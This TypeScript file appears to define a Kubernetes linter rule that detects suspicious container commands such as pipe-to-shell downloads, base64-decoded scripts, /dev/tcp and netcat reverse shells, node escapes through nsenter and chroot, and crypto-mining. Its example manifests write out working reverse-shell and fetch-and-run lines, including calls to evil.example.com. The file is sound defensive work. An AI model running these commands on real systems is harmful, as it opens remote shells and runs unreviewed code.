import { parseImage } from '../../cluster/image.js';
import type { Container } from '../../cluster/workload.js';
import type { Severity } from '../../finding.js';
import type { Node } from '../../source/node.js';
import { defineRule, type Remark, yaml } from '../rule.js';

interface Suspicion {
  /** What the command does, in words that follow the container's label. */
  readonly does: string;
  readonly pattern: RegExp;
  readonly severity?: Severity;
}

const SHELL = String.raw`(?:sudo\s+(?:-\S+\s+){0,5})?(?:\/(?:usr\/)?bin\/)?(?:env\s+)?(?:ba|da|z|k|a)?sh\b`;
/** What an interpreter is piped into with neither a module nor a script of its own is a script. */
const INTERPRETER = String.raw`(?:python[\d.]{0,5}|perl|ruby|node|php)(?:\s+-)?\s*(?=$|[\n;&|)"'])`;
const START = String.raw`(?:^|[\n;|&({][ \t]{0,40})(?:exec\s+)?(?:\/(?:usr\/)?s?bin\/)?`;

const RAW = 'opens a raw connection through /dev/tcp';
const SUDO = 'runs sudo';

const SUSPICIONS: readonly Suspicion[] = [
  {
    does: 'downloads a script and runs it',
    pattern: new RegExp(
      String.raw`\b(?:curl|wget)\b[^\n;|]{0,1000}\|\s*(?:${SHELL}|${INTERPRETER})|(?:${SHELL}\s+(?:-c\s+)?|\b(?:source|eval)\s+|(?:^|[\s;&|])\.\s+)["']?(?:<\(|\$\(|\`)\s*(?:curl|wget)\b`,
    ),
  },
  {
    does: 'decodes a hidden script and runs it',
    pattern: new RegExp(
      String.raw`\bbase64\s+(?:-\w+\s+){0,3}(?:-\w{0,3}[dD]\w{0,3}|--decode)\b[^\n;|]{0,1000}\|\s*${SHELL}`,
    ),
  },
  {
    does: RAW,
    pattern: new RegExp(
      String.raw`${SHELL}\s+-[a-z]{0,4}i\b[^\n;]{0,200}\/dev\/(?:tcp|udp)\/|\/dev\/(?:tcp|udp)\/[^\n]{0,300}(?:0[<>]&1|\bsh\b[^\n;]{0,40}<\s*&\d|\bwhile\s+read\b)|\/dev\/(?:tcp|udp)\/(?!0|10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}\/|\b(?:env|printenv|tar|base64|cat\s+[^<\s|;&])[^\n|;&<]{0,200}>\s*\/dev\/(?:tcp|udp)\/`,
    ),
  },
  // To see whether a port answers is how scripts wait for one another.
  { does: RAW, pattern: /\/dev\/(?:tcp|udp)\/[^\s/]+\/\S/, severity: 'low' },
  {
    does: 'hands a shell to the network with nc',
    pattern:
      /\b(?:nc|ncat|netcat)\s(?:[^\n;|&]{0,300}\s)?(?:-[a-z]{0,8}e|--exec|--sh-exec)\s+\S*(?:sh|cmd)\b|\bmkfifo\s[^\n]{0,300}\b(?:nc|ncat|netcat)\s/,
  },
  {
    does: 'enters the namespaces of the node with nsenter',
    pattern: /\bnsenter\b[^\n;|&]{0,300}(?:-[a-zA-Z]{0,8}t\s*1\b|--target[= ]1\b|\/proc\/1\/ns)/,
  },
  {
    does: 'changes into the file system of the node with chroot',
    pattern: new RegExp(
      String.raw`${START}chroot\s+(?:-\S+\s+){0,5}"?\/(?:host\w*|rootfs|node-?(?:root|fs)?|mnt\/(?:host\w*|root\w*)|proc\/1\/root)(?=[\s"/]|$)`,
    ),
  },
  { does: 'loads a kernel module with insmod', pattern: new RegExp(String.raw`${START}insmod\s+\S`) },
  {
    does: 'makes a program run as its owner (setuid)',
    pattern: /\bchmod\s+(?:-\S+\s+){0,5}(?:[ugoa]*\+[rwxt]*s[rwxt]*|0?[4567][0-7]{3})\s/,
  },
  {
    does: 'mines or joins a mining pool',
    pattern: /\b(?:xmrig|xmr-stak|cpuminer|minerd|ethminer|nbminer)\b|\bstratum\+(?:tcp|ssl|tls):\/\//i,
  },
  {
    does: 'writes a crontab',
    pattern: /\|\s*crontab\s+-|\bcrontab\s+(?!-[lrV])[\w./-]|>\s*\/(?:etc\/cron|var\/spool\/cron)/,
    severity: 'medium',
  },
  { does: SUDO, pattern: new RegExp(String.raw`${START}sudo\s+\S`), severity: 'medium' },
];

/** One of these stands in every command that a suspicion is about, and in few others. */
const WORDS = /curl|wget|base64|\/dev\/|nc|netcat|nsenter|chroot|insmod|chmod|xmr|miner|stratum|cron|sudo/i;

/** What a stranger could write more of than any start script has. */
const MOST_TEXT = 100_000;

export const containerCommandSuspicious = defineRule({
  id: 'container-command-suspicious',
  title: 'Container command downloads, decodes or escalates at start',
  family: 'workload',
  why: 'What is fetched or decoded at start was in no review and in no image scan, and tools that reach the node are how a break-in goes on.',
  remedy: 'Build what the container needs into its image, and find out why it is run at start.',
  severity: 'high',
  standards: ['owasp: K01', 'mitre: T1059.013', 'mitre: T1496.001'],
  equivalents: { kubescape: ['C-0062'], checkov: ['CKV_K8S_159'] },

  confidence: 'likely',
  *check({ now }) {
    for (const container of now.containers) {
      yield* commanded(container);
      yield* synchronised(container);
    }
  },
  examples: [
    {
      name: 'other words for the same',
      manifest: yaml`
        apiVersion: v1
        kind: Pod
        metadata: {name: web}
        spec:
          containers:
            - {name: a, image: "a:1", command: [sh, -c, "curl -s https://x.example.com | sudo -E bash"]} # <-- here
            - {name: b, image: "a:1", command: [bash, -c, "source <(curl -s https://x.example.com)"]} # <-- here
            - {name: c, image: "a:1", command: [sh, -c, "wget -qO- https://x.example.com | python3 -"]} # <-- here
            - {name: d, image: "a:1", command: [sh, -c, "mkfifo /tmp/f; nc 192.0.2.1 44 < /tmp/f | sh > /tmp/f"]} # <-- here
            - {name: e, image: "a:1", command: [bash, -c, "bash -i >& /dev/tcp/evil.example.com/44 0>&1"]} # <-- here
            - {name: f, image: "a:1", command: [sh, -c, "curl -s http://x.example.com | python3 -m json.tool"]}
      `,
    },
    {
      name: 'scripts that are fetched, decoded and hidden',
      manifest: yaml`
        apiVersion: v1
        kind: Pod
        metadata: {name: a}
        spec:
          initContainers:
            - name: fetch
              image: alpine:3.20
              command: [sh, -c]
              args:
                - curl -fsSL "https://get.example.com?a=1&b=2" | sudo bash # <-- here
            - name: decode
              image: alpine:3.20
              command: [sh, -c, "echo aWQ= | base64 -d | sh"] # <-- here
            - name: inner
              image: alpine:3.20
              command: [bash, -c, 'bash -c "$(wget -qO- https://get.example.com)"'] # <-- here
          containers:
            - name: app
              image: alpine:3.20
              command: [app]
              lifecycle:
                postStart:
                  exec:
                    command:
                      - bash
                      - -c
                      - | # <-- here
                        exec 3<>/dev/tcp/192.0.2.1/4444
      `,
    },
    {
      name: 'ways to the node, to other users and to a mining pool',
      manifest: yaml`
        apiVersion: v1
        kind: Pod
        metadata: {name: a}
        spec:
          containers:
            - name: enter
              image: alpine:3.20
              command: [nsenter, --target, "1", --mount, sh] # <-- here
            - name: root
              image: alpine:3.20
              command: [chroot, /host, sh] # <-- here
            - name: user
              image: alpine:3.20
              command: [sudo, app] # <-- here
            - name: suid
              image: alpine:3.20
              command: [sh, -c, "cp /bin/sh /tmp/s && chmod u+s /tmp/s"] # <-- here
            - name: mine
              image: alpine:3.20
              args: ["-o", "stratum+tcp://pool.example.com:3333"] # <-- here
            - name: cron
              image: alpine:3.20
              command: [sh, -c, "echo '* * * * * job' | crontab -"] # <-- here
            - name: shell
              image: alpine:3.20
              livenessProbe: {exec: {command: [nc, 192.0.2.1, "4444", -e, /bin/sh]}} # <-- here
      `,
    },
    {
      name: 'git-sync that is told to run another git',
      manifest: yaml`
        apiVersion: v1
        kind: Pod
        metadata: {name: a}
        spec:
          containers:
            - name: sync
              image: registry.k8s.io/git-sync/git-sync:v4.2.1
              env:
                - {name: GITSYNC_GIT, value: /tmp/evil} # <-- here
      `,
    },
    {
      name: 'downloads to a file, words inside words, comments and own roots are clean',
      manifest: yaml`
        apiVersion: v1
        kind: Pod
        metadata: {name: a}
        spec:
          containers:
            - {name: a, image: "alpine:3.20", command: [sh, -c, "curl -o /tmp/x https://example.com/x | tee log; sha256sum -c sums"]}
            - {name: b, image: "alpine:3.20", command: [sh, -c, "echo pseudosudo; base64 -d key > /run/key; chmod 0755 /run; crontab -l"]}
            - {name: c, image: "alpine:3.20", command: [chroot, /srv/jail, app]}
            - name: d
              image: alpine:3.20
              command:
                - sh
                - -c
                - |
                  # never do: curl https://example.com | sh
                  nc -z db 5432
            - {name: e, image: "alpine:3.20", command: null, args: [1, true, null], env: [{name: GITSYNC_GIT, value: git}]}
      `,
    },
  ],
});

/** The commands of a container: its own, those of its hooks and those of its probes. */
function commandsOf({ node }: Container): readonly (readonly Node[])[] {
  const places = ['livenessProbe', 'readinessProbe', 'startupProbe'].map((probe) => node.at(probe));
  const hooks = ['postStart', 'preStop'].map((hook) => node.at('lifecycle', hook));
  const executed = [...places, ...hooks].map((place) => [place.at('exec', 'command')]);
  return [[node.at('command'), node.at('args')], ...executed].map((lists) =>
    lists.filter(({ value }) => Array.isArray(value)),
  );
}

function* commanded(container: Container): Iterable<Remark> {
  const told = new Set<string>();
  for (const lists of commandsOf(container)) {
    const items = lists.flatMap((list) => list.items());
    const scripts = items.map((item) => scriptOf(item.text() ?? ''));
    const whole = scripts.join(' ');
    if (!WORDS.test(whole)) continue;
    for (const { does, pattern, severity } of SUSPICIONS) {
      const item = items[scripts.findIndex((script) => pattern.test(script))];
      const repeats = told.has(does) || (does === SUDO && told.size > 0);
      if (repeats || (item === undefined && !pattern.test(whole))) continue;
      told.add(does);
      yield {
        about: container.workload.resource,
        subject: `${container.label} ${does}`,
        at: item ?? lists.find(({ present }) => present) ?? container.node,
        ...(severity === undefined ? {} : { severity }),
        message: `${container.label} ${does}`,
      };
    }
  }
}

const scriptOf = (text: string): string =>
  text
    .slice(0, MOST_TEXT)
    .replace(/\\\r?\n/g, ' ')
    .replace(/^[ \t]*#.*$/gm, '');

function* synchronised(container: Container): Iterable<Remark> {
  const image = container.node.at('image').text() ?? '';
  if (!image.includes('git-sync') || !/(?:^|\/)git-sync$/.test(parseImage(image)?.repository ?? '')) return;
  for (const entry of container.node.at('env').items()) {
    if (entry.at('name').text() !== 'GITSYNC_GIT') continue;
    yield {
      about: container.workload.resource,
      subject: `${container.label} GITSYNC_GIT`,
      at: entry,
      message: `${container.label} lets git-sync run another program in the place of git`,
    };
  }
}
